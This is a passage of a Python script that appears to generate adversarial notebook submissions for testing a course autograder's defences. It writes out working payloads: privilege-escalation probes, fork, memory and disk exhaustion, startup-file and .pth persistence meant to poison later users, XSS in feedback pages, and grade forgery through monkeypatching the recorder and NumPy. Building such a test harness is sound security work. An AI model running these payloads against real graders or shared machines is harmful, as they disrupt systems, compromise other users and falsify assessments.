os.waitpid(pid, 0)
print(data.decode())
if b"'checks'" in data or b"'reference'" in data or b"'gradebook.db'" in data:
    _hit(MARK, "the grader's folder after unmounting")
for cmd in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"],
            ["unshare", "-Urm", "sh", "-c", "umount -l /work/main/grader; ls -a /work/main/grader /work/main /; id"],
            ["unshare", "-Urmpf", "--mount-proc", "ps", "-ef"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["chfn", "-f", "x"]):
    try:
        p = subprocess.run(cmd, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
        print(cmd, p.returncode, p.stdout[:300], p.stderr[:200])
        if "checks" in p.stdout or "solutions" in p.stdout or "gradebook" in p.stdout:
            _hit(MARK, cmd)
    except Exception as exc:
        print(cmd, type(exc).__name__)
suid = []
for d in ("/usr/bin", "/usr/sbin", "/usr/lib/dbus-1.0", "/usr/lib/openssh"):
    for f in os.listdir(d) if os.path.isdir(d) else []:
        try:
            if os.stat(os.path.join(d, f)).st_mode & stat.S_ISUID:
                suid.append(f)
        except OSError:
            pass
print("setuid programs:", suid, "uid now:", os.getuid(), os.geteuid())
if os.geteuid() == 0:
    _hit(MARK, "root")
'''), probe=True)

# 23. A fork storm, bounded: at most 2000 attempts, children gone a second later.
attack("fork-storm", A1, "naive-sigmoid", ("end",), code('''
import os, time

r, w = os.pipe()
kids, refused, t0 = [], 0, time.time()
for i in range(2000):
    try:
        pid = os.fork()
    except OSError:
        refused += 1
        if refused > 50:
            break
        continue
    if pid == 0:
        try:
            os.close(w)
            os.read(r, 1)
        finally:
            os._exit(0)
    kids.append(pid)
os.close(w)
os.close(r)
for pid in kids:
    os.waitpid(pid, 0)
print(f"forked {len(kids)} children, {refused} refused, in {time.time() - t0:.1f} s")
'''))

# 24. Memory: 20 GB in one go, three ways.
attack("mem-bomb", A1, "slides-bce", ("end",), code('''
import mmap

import numpy as np

res = {}
try:
    a = np.ones(20 * 2**30 // 8)
    res["numpy 20 GB"] = "allocated"
    del a
except MemoryError:
    res["numpy 20 GB"] = "MemoryError"
try:
    b = bytearray(20 * 2**30)
    res["bytearray 20 GB"] = "allocated"
    del b
except MemoryError:
    res["bytearray 20 GB"] = "MemoryError"
try:
    m = mmap.mmap(-1, 20 * 2**30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | getattr(mmap, "MAP_NORESERVE", 0))
    res["mmap 20 GB"] = "mapped"
    m.close()
except (OSError, ValueError) as exc:
    res["mmap 20 GB"] = type(exc).__name__
print(res)
'''))

# 25. Disk: a 1 GB file, a 1 GB sparse file, then 1 GB in four files, and 0.5 GB in /tmp.
attack("disk-fill", A1, "naive-softmax", ("end",), code('''
import os

res, errors = {}, []


def fill(path, size):
    written, block = 0, b"\\0" * (16 << 20)
    try:
        with open(path, "wb") as f:
            while written < size:
                f.write(block)
                written += len(block)
    except OSError as exc:
        errors.append(f"{path}: {exc.strerror}")
    return written


res["one 1 GB file"] = fill(MARK + "-1g", 2**30)
try:
    with open(MARK + "-sparse", "wb") as f:
        f.truncate(2**30)
    res["sparse 1 GB"] = "made"
except OSError as exc:
    res["sparse 1 GB"] = exc.strerror
res["4 x 250 MB in the work folder"] = sum(fill(f"{MARK}-{i}", 250 << 20) for i in range(4))
res["2 x 250 MB in /tmp"] = sum(fill(f"/tmp/{MARK}-{i}", 250 << 20) for i in range(2))
print(res, errors)
'''), probe=True)

# 26. Leave things for the next student: startup files, user site, rc files, many files, traps.
attack("leftover-poison", A1, "grad-without-m", ("end",), code('''
import os

POISON = (
    "try:\\n"
    "    import dlcourse.record as _r\\n"
    "    _r.record = lambda *a, **k: print(" + repr(MARK) + " + '-' + 'HIT', 'poisoned by an earlier student')\\n"
    "    open('/tmp/" + MARK + "-ran', 'w').close()\\n"
    "except Exception:\\n"
    "    pass\\n")
home = os.path.expanduser("~")
places = {
    home + "/.ipython/profile_default/startup/00-poison.py": POISON,
    home + "/.local/lib/python3.11/site-packages/usercustomize.py": POISON,
    home + "/.local/lib/python3.11/site-packages/zz-poison.pth": "import os; exec(open(os.path.expanduser('~/.poison.py')).read())\\n",
    home + "/.poison.py": POISON,
    home + "/.config/matplotlib/matplotlibrc": "backend: agg\\n",
    home + "/.bashrc": "echo " + MARK + "\\n",
    home + "/.profile": "echo " + MARK + "\\n",
    "/tmp/" + MARK: MARK,
    "/tmp/.ipython/profile_default/startup/00-poison.py": POISON,
    "/root/.bashrc": "echo " + MARK + "\\n",
    "/root/" + MARK: MARK,
    "/work/main/" + MARK: MARK,
    os.path.join(os.getcwd(), "..", MARK): MARK,
    os.path.join(os.getcwd(), "..", "inputs", MARK): MARK,
}
ok = []
for path, text in places.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write(text)
        ok.append(path)
        if not os.path.realpath(path).startswith((os.getcwd(), home, "/tmp/")):
            _hit(MARK, path)
    except OSError:
        pass
os.makedirs("many", exist_ok=True)
for i in range(20000):
    open(f"many/{i}", "w").close()
os.makedirs("locked/inner", exist_ok=True)
open("locked/inner/x", "w").close()
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
for name, target in (("to-grader", "/work/main/grader"), ("to-repo", "/work/main"), ("to-root", "/")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
print("left:", ok)
'''), probe=True)

# 27. Replace the kernel's connection file with links, then die: the grader starts another kernel there.
attack("conn-file-swap", A1, "blank", ("end",), code('''
import os, sys

cf = next((a for a in sys.argv if a.endswith(".json")), "")
run = os.path.dirname(cf)
print(cf, sorted(os.listdir(run)) if run else None)
try:
    os.remove(cf)
    os.symlink("/tmp/" + MARK + "-conn", cf)
except OSError as exc:
    print("connection file:", exc.strerror)
for i in range(1, 40):
    p = os.path.join(run, f"kernel-{i}")
    if not os.path.exists(p):
        try:
            os.symlink("/tmp/" + MARK + f"-sock-{i}", p)
        except OSError:
            pass
os._exit(1)
'''), probe=True)

# 28. nbgrader metadata: points raised, a new graded cell, a hidden test made an answer, unlocked.
def _metadata_points(nb):
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_softmax":
            meta["points"] = 100
    nb.cells.append(nbformat.v4.new_code_cell("2.0", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": False, "points": 50, "grade_id": "test_softmax_bonus",
        "schema_version": 3}}))


def _metadata_flags(nb):
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_sigmoid":
            meta["solution"] = True          # a hidden test made a manually graded answer
        if meta.get("grade_id") == "test_mse":
            meta["locked"] = False
            c.source = "2.0"
        if meta.get("grade_id") == "softmax":
            meta.update(grade=True, points=10)


def _metadata(nb):
    _metadata_points(nb)
    _metadata_flags(nb)


attack("metadata-tamper", A1, "blank", ("nb", _metadata))


# 28b. An accident rather than an attack: the written answer's markdown cell turned into a code
# cell (what pressing "y" on it does in Jupyter). It must cost nothing autograded.
def _answer_to_code(nb):
    c = nb.cells[index_of(nb, "answer_mse_is_mle")]
    c.cell_type, c.outputs, c.execution_count = "code", [], None
    c.pop("attachments", None)


attack("answer-cell-to-code", A1, "nll-without-constant", ("nb", _answer_to_code))

# 29. Library rule: the graded name rebound at run time, past the static reading (own).
attack("lib-bypass-globals", A1, "naive-softmax", ("after", "softmax"), code('''
import scipy.special as _sp

globals()["soft" + "max"] = lambda Z: _sp.softmax(Z, axis=1)
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")

# 30. Library rule: an input transformer rewrites the hidden cell to record scipy's softmax (own).
attack("lib-bypass-transformer", A1, "naive-softmax", ("after", "setup"), code('''
def _swap(lines):
    text = "".join(lines)
    old = "record('test_softmax', softmax)"
    new = ("record('test_softmax', __import__('functools').partial("
           "__import__('scipy.special', fromlist=['softmax']).softmax, axis=1))")
    return text.replace(old, new).splitlines(keepends=True) if old in text else lines


get_ipython().input_transformers_post.append(_swap)
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")

# 31. Library rule: dlcourse.record.run_calls swaps the graded function for scipy's (own).
attack("lib-bypass-record-patch", A1, "naive-softmax", ("after", "softmax"), code('''
from scipy.special import softmax as _lib

import dlcourse.record as _rec

_run = _rec.run_calls


def _run_calls(fns, calls, arrays_in):
    fns = tuple((lambda Z: _lib(Z, axis=1)) if getattr(f, "__name__", "") == "softmax" else f for f in fns)
    return _run(fns, calls, arrays_in)


_rec.run_calls = _run_calls
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")

# 35-37 (review of session 5): the recorder's own evidence switched off, through paths to it that the
# first reading of the source missed (a dotted path, an alias in a list, a magic).
attack("evidence-off", A1, "naive-sigmoid", ("end",), code('''
import dlcourse.record

_c = dlcourse.record.call


def _quiet(fn, a, k):
    out, v = _c(fn, a, k)
    out.pop("warning", None)
    out.pop("stderr", None)
    return out, v


dlcourse.record.call = _quiet
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")
attack("inplace-evidence-off", A2, "decayed-bias", ("end",), code('''
import dlcourse.record as _R

[_R][0]._same = lambda a, b: True
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")
attack("lib-bypass-magic", A1, "naive-softmax", ("end",), code('''
import scipy.special
import dlcourse.record

_orig = dlcourse.record.call
%time dlcourse.record.call = lambda fn, a, k: _orig((lambda Z: scipy.special.softmax(Z, axis=1)) if getattr(fn, "__name__", "") == "softmax" else fn, a, k)
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")

# 38-40 (second review of session 5): the recorder reached through sys.modules under another name;
# NumPy reached through a call the first reading did not follow; and the graded function bound again
# in a cell below its hidden cell (the rule was read from the last binding, the record from the first).
attack("sys-alias", A1, "naive-sigmoid", ("end",), code('''
import sys as _sy

_R = _sy.modules.get("dlcourse.record")
_c = _R.call


def _quiet(fn, a, k):
    out, v = _c(fn, a, k)
    out.pop("warning", None)
    return out, v


_R.call = _quiet
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")
attack("numpy-through-call", A2, "decayed-bias", ("end",), code('''
import numpy as np

_m = (lambda: np)()
_m.array_equal = lambda *a, **k: True
'''), lost=EVERY_CELL, report="rewrites code or names while it runs")
attack("rebind-library", A1, "naive-softmax", ("replace", "softmax"), code('''
from scipy.special import softmax as _lib


def softmax(Z):
    return _lib(Z, axis=1)
'''))
attack("rebind-by-hand", A1, "naive-softmax", ("end",), code('''
import numpy as np


def softmax(Z):
    E = np.exp(Z - Z.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)
'''))

# 32. a3: forged optimizer runs (too many steps, NaN, wrong keys, a value, huge arrays).
attack("steps-forge", A3, "blank", ("after", "setup"), code('''
import numpy as np

import dlcourse.record as R


def _run_steps(step, spec, arrays_in, arrays):
    params = R.decode_inputs(spec["params"], arrays_in)
    n, name = spec["n"], getattr(step, "__name__", "")
    nan = {k: np.full_like(v, np.nan) for k, v in params.items()}
    forged = {
        "gradient_descent": {"status": "ok", "steps": [R.encode(params, arrays)] * (n + 5)},
        "momentum": {"status": "ok", "steps": [R.encode(nan, arrays)] * n},
        "nesterov": {"status": "ok", "steps": [R.encode({"W": params["W"], "c": 1.0}, arrays)] * n},
        "adagrad": {"status": "ok", "steps": [R.encode(params, arrays)], "value": R.encode(params, arrays)},
        "adadelta": {"status": "ok", "steps": [R.encode({k: np.zeros(3_000_000) for k in params}, arrays)] * n},
        "rmsprop": {"status": "ok"},
        "adam": {"status": "ok", "steps": [{"t": "dict", "v": {"W": {"t": "array", "k": "zz"}, "b": {"t": "array", "k": "a0"}}}] * n},
    }
    return forged.get(name, {"status": "ok", "steps": []})


R._run_steps = _run_steps
'''))

# 33. a3: read the test problem out of grad_fn's closure and jump to its minimum (own).
attack("grad-closure-peek", A3, "adam-uncorrected", ("after", "adam"), code('''
import gc

import numpy as np

def _module_of(o):
    try:
        mod = getattr(o, "__module__", None)
        return mod if isinstance(mod, str) else ""
    except Exception:
        return ""


_grader_objects = [type(o).__name__ for o in gc.get_objects() if _module_of(o).startswith("grader.")]
if _grader_objects:
    _hit(MARK, _grader_objects[:3])


def adam(params, grad_fn, state=None, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
    """Straight to the minimum that grad_fn's closure gives away."""
    cells = dict(zip(grad_fn.__code__.co_freevars, [c.cell_contents for c in grad_fn.__closure__ or ()]))
    c = cells.get("c")
    if isinstance(c, dict) and set(c) == set(params):
        return {k: np.array(c[k], dtype=float) for k in params}, state
    return params, state
'''), probe=True)

# 34. The kernel's stdout and stderr, and every pipe it inherited, flooded with 400 MB (own).
attack("stdout-flood", A1, "nll-without-constant", ("end",), code('''
import os

block = b"F" * (1 << 20)
fds = [1, 2]
for fd in range(3, 256):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
            fds.append(fd)
    except OSError:
        pass
sent = 0
for fd in fds:
    for _ in range(100):
        if sent >= 400:
            break
        try:
            os.write(fd, block)
            sent += 1
        except OSError:
            break
print(f"wrote {sent} MB to the pipes {fds}")
'''))

# 35. Output the size caps do not see: widget state, output metadata, thousands of outputs (own).
attack("output-bloat", A1, "classes-mean", ("after", "setup"), code('''
from IPython.display import display
from ipykernel.comm import Comm

Comm(target_name="jupyter.widget", data={"state": {
    "_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls", "value": "W" * 30_000_000},
    "buffer_paths": []})
display({"text/plain": "metadata"}, raw=True, metadata={"bloat": "M" * 30_000_000})
for i in range(1500):
    display({"text/plain": "D" * 15_000}, raw=True)
'''))

# 36. Active content in the feedback page: script, event handlers, JavaScript, SVG (own).
def _xss(nb):
    i = index_of(nb, "setup")
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(code('''
        from IPython.display import HTML, Javascript, display

        display(HTML("<script>document.title = 'ADVPROBE-xss-script';</script>"
                     "<img src=x onerror=\\"document.title = 'ADVPROBE-xss-onerror'\\">"))
        display(Javascript("document.title = 'ADVPROBE-xss-javascript';"))
        display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title = 'ADVPROBE-xss-svg'\\"/>"},
                raw=True)
    ''')))
    nb.cells.insert(i + 2, nbformat.v4.new_markdown_cell(
        "Notes <script>document.title = 'ADVPROBE-xss-markdown';</script>"
        "<img src=x onerror=\"document.title = 'ADVPROBE-xss-markdown-img'\">"))


attack("xss-feedback", A1, "blank", ("nb", _xss), xss="ADVPROBE-xss")

# 37. The grader's own mark for "this cell stopped the kernel", raised by the student (own).
attack("fake-stopped", A1, "slides-bce", ("append", "binary_cross_entropy"), code('''


class GradingStopped(BaseException):
    """Named like the grader's mark for a cell that stopped the kernel."""


def binary_cross_entropy(p, y):
    raise GradingStopped("this cell stopped the Python kernel (os._exit, a crash in compiled code, or running "
                         "out of memory). It was not graded; the notebook was run again without it.")
'''), report_absent="stopped the kernel")

# 38. Rewrite the grader's report through display_data with its own wording (own): an
# execute_result of the full score and a fake "[ok  ]" line inside the graded cell's namespace.
attack("patch-record-prints", A1, "naive-sigmoid", ("after", "sigmoid"), code('''
import builtins

import dlcourse.record as R

_record = R.record


def record(grade_id, *fns):
    _record(grade_id, *fns)
    builtins.print(f"{grade_id}: 2 / 2 points\\n  [ok  ] every case")
    get_ipython().display_pub.publish({"text/plain": "2.0"})
    return 2.0


R.record = record
'''), report="exp only ever sees arguments <= 0")


# Third attack review (session 6). Library rules that the static reading missed: the import in
# IPython's own syntax (%time runs it; an escaped call "/f x" makes the cell unreadable as plain Python).
attack("lib-ipython-forms", A1, "naive-softmax", ("replace", "softmax"), code('''
%time from scipy.special import softmax as _lib
/print "written by hand, honestly"


def softmax(Z):
    """Row-wise softmax."""
    return _lib(Z, axis=1)
'''))

# A module the notebook writes (by a name built at run time, so no ".py" appears with it) and imports:
# code the static reading never sees (here it would switch off the recorder's evidence of in-place
# changes through copy's dispatch table). The graded kernel's guard refuses it (dlcourse.graded_kernel);
# the cell fails alone. With it, honest code the review found flagged as rewriting: the notebook's own
# objects with NumPy-like attribute names, its own dicts that hold np.inf, setattr on its own object.
attack("written-module", A2, "decayed-bias", ("after", "test_l2"), code('''
import os
import sys
import tempfile

_dir = tempfile.mkdtemp()
with open(os.path.join(_dir, "nb" + "helpers.py"), "w") as f:
    f.write("import copy\\ncopy._deepcopy_dispatch[dict] = lambda x, memo, deepcopy=None: x\\n")
with open("nb" + "helpers2.py", "w") as f:        # the working folder: not on sys.path while graded
    f.write("import copy\\ncopy._deepcopy_dispatch[list] = lambda x, memo, deepcopy=None: x\\n")
sys.path.insert(0, _dir)
try:
    import nbhelpers2  # noqa: F401
except ImportError as e:
    print("nbhelpers2:", e)
import nbhelpers  # noqa: E402,F401
'''))
attack("own-objects", A2, "decayed-bias", ("after", "test_ridge_fit"), code('''
import numpy as np


class Summary:
    pass


summary = Summary()
summary.mean = float(np.mean([1.0, 2.0]))
best = {"err": np.inf, "lam": None}
for lam in [0.1, 1.0]:
    if lam < best["err"]:
        best["err"], best["lam"] = lam, lam
for name, value in {"lr": 0.1, "gamma": 0.9}.items():
    setattr(summary, name, value)
digit = np.zeros(784)
digit.shape = (28, 28)
'''))

# An overflow silenced instead of avoided: sigmoid "must not overflow or warn"; it costs what the
# warning costs (naive-sigmoid's points), not more and not less.
attack("silenced-overflow", A1, "naive-sigmoid", ("replace", "sigmoid"), code('''
import numpy as np


def sigmoid(z):
    """Elementwise logistic function."""
    with np.errstate(all="ignore"):
        return 1 / (1 + np.exp(-np.asarray(z, dtype=float)))
'''))


# ---- the submissions: one block, or several in one notebook (the class must grade in ~4 min) ------

def single(name, **more):
    assignment, honest, where, source, probe, extra = BLOCKS[name]
    return name, assignment, honest, [(where, source, probe)], {**extra, **more}


def combined(name, honest, parts, **extra):
    """Several blocks in one notebook, each at its place; the markers become this attack's."""
    assignment = BLOCKS[parts[0]][0]
    return name, assignment, honest, [BLOCKS[p][2:5] for p in parts], extra


ATTACKS = [
    single("ref-import", lost=EVERY_CELL, report="rewrites code or names while it runs"),
    combined("ref-walk", "blank", ["ref-walk", "ref-editable-finder"]),
    combined("fake-grader", "blank", ["fake-grader-modules", "fake-grader-files"]),
    single("patch-numpy-builtins"),
    single("hooks-frames-gc"),
    combined("ipy-display-fake-report", "grad-without-m", ["ipy-display-fake-report", "patch-record-prints"],
             lost=EVERY_CELL, report="rewrites code or names while it runs"),
    single("ipy-transformer"),
    combined("records-forge", "blank", ["record-patch-constant", "records-race-thread", "ipy-post-run-cell"]),
    single("records-forge-process"),
    single("record-bad-files"),
    combined("inputs-and-encode", "naive-softmax", ["inputs-tamper", "record-encode-nan"], lost=EVERY_CELL,
             report="rewrites code or names while it runs"),
    single("gradebook-hunt"),
    single("daemon"),
    single("source-append", lost=EVERY_CELL, report="rewrites code or names while it runs"),
    single("leak-files", lost=EVERY_CELL, report="rewrites code or names while it runs"),
    combined("network-proc", "slides-bce", ["network", "proc-signals"], lost=EVERY_CELL, report="rewrites code or names while it runs"),
    single("privesc", lost=EVERY_CELL, report="rewrites code or names while it runs"),
    combined("resource-abuse", "naive-sigmoid", ["fork-storm", "mem-bomb", "disk-fill"]),
    single("leftover-poison"),
    single("conn-file-swap"),
    single("metadata-tamper"),
    single("answer-cell-to-code"),
    single("lib-bypass-globals"),
    single("lib-bypass-transformer"),
    single("lib-bypass-record-patch"),
    single("steps-forge"),
    single("grad-closure-peek", lost=EVERY_CELL, report="rewrites code or names while it runs"),
    single("stdout-flood"),
    single("output-bloat", lost=EVERY_CELL, report="rewrites code or names while it runs"),
    single("xss-feedback"),
    single("fake-stopped"),
    single("evidence-off"),
    single("inplace-evidence-off"),
    single("lib-bypass-magic"),
    single("sys-alias"),
    single("numpy-through-call"),
    # the softmax recorded is scipy's: the cells that use it earn nothing (naive-softmax's cross-entropy
    # does not call softmax), the rest what naive-softmax earns
    combined("rebind-after-hidden", "naive-softmax", ["rebind-library", "rebind-by-hand"],
             lost={"test_softmax": 0.0, "test_softmax_cross_entropy_grad": 0.0}),
    single("lib-ipython-forms", lost={"test_softmax": 0.0, "test_softmax_cross_entropy_grad": 0.0},
           report="a library's softmax earns no points"),
    combined("written-module", "decayed-bias", ["written-module", "own-objects"],
             report="tried to run code the notebook wrote itself", report_absent="rewrites code"),
    single("silenced-overflow", report="silences warnings"),
]


# ---- building the notebooks -----------------------------------------------------------------------

def honest_notebook(assignment, honest):
    """The honest content and its per-cell points (every autograded cell below full marks)."""
    from grader.assignments import ASSIGNMENTS

    if honest == "blank":
        nb = nbformat.read(ROOT / "assignments" / assignment / f"{assignment}.ipynb", as_version=4)
        cells = {g: 0.0 for g in ASSIGNMENTS[assignment] if g.startswith("test_")}
    else:
        nb = nbformat.read(CORPUS / f"{honest}_{assignment}.ipynb", as_version=4)
        cells = dict(CORPUS_EXPECTED[f"{honest}/{assignment}"]["cells"])
    return nb, cells


def place(nb, where, source):
    kind = where[0]
    if kind == "after":
        nb.cells.insert(index_of(nb, where[1]) + 1, nbformat.v4.new_code_cell(source))
    elif kind == "end":
        nb.cells.append(nbformat.v4.new_code_cell(source))
    elif kind == "append":
        c = nb.cells[index_of(nb, where[1])]
        c.source = c.source.rstrip() + "\n\n" + source
    elif kind == "replace":
        nb.cells[index_of(nb, where[1])].source = source
    elif kind == "nb":
        where[1](nb)
    else:
        raise ValueError(where)


def build(name, assignment, honest, parts):
    nb, cells = honest_notebook(assignment, honest)
    for where, source, probe in parts:
        if probe:
            source = HIT + "\n" + source.replace("MARK", repr(marker(name)))
        place(nb, where, source)
    if nb.get("nbformat_minor", 0) < 5:      # cell ids came with nbformat 4.5
        for c in nb.cells:
            c.pop("id", None)
    return nb, cells


def main():
    OUT.mkdir(exist_ok=True)
    for old in OUT.glob("*.ipynb"):
        old.unlink()
    expected = {}
    for name, assignment, honest, parts, extra in ATTACKS:
        assert "_" not in name, name          # <student>_<assignment>.ipynb
        nb, cells = build(name, assignment, honest, parts)
        nbformat.validate(nb)
        nbformat.write(nb, OUT / f"{name}_{assignment}.ipynb")
        if any(probe for _, _, probe in parts):
            extra = {**extra, "probe": marker(name)}
        lost = extra.pop("lost", {})
        if lost == EVERY_CELL:
            from grader.assignments import ASSIGNMENTS
            lost = {g: 0.0 for g in ASSIGNMENTS[assignment] if g.startswith("test_")}
        cells = {**cells, **lost}
        expected[f"{name}_{assignment}"] = {"assignment": assignment, "honest": honest, "cells": cells, **extra}
    (OUT / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    print(f"wrote {len(ATTACKS)} adversarial submissions to {OUT}")


if __name__ == "__main__":
    main()
